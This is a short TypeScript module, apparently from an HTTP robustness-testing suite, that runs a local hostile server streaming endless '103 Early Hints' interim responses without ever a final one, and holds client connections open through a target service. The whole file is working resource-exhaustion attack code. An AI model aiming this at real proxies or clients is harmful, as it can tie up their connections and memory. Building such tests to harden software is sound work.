// An endpoint sends interim responses without end (RFC 9110, section 15.2), and never a final one.
import { createServer } from 'node:net';
import type { Running, Target } from '../attack.ts';
import { get, HeldConnections } from '../sockets.ts';

const CLIENTS = 2;
const INTERIM = 'HTTP/1.1 103 Early Hints\r\nLink: </x>\r\n\r\n'.repeat(1000);

export async function endlessInformational(target: Target): Promise<Running> {
  let responses = 0;
  const server = createServer((socket) => {
    const send = (): void => {
      while (!socket.destroyed) {
        responses += 1000;
        if (!socket.write(INTERIM)) return;
      }
    };
    socket.on('error', () => {});
    socket.on('drain', send).once('data', send).resume();
  });
  await new Promise<void>((resolve) => server.listen(target.hostilePort, '127.0.0.1', resolve));
  const held = new HeldConnections({
    port: target.hostileServicePort,
    count: CLIENTS,
    reads: true,
    onOpen: (socket) => void socket.write(get('/')),
  });
  await held.start();
  return {
    note: () => `${Math.round(responses / 1000)} thousand interim responses`,
    stop: () => {
      held.stop();
      server.close();
    },
  };
}
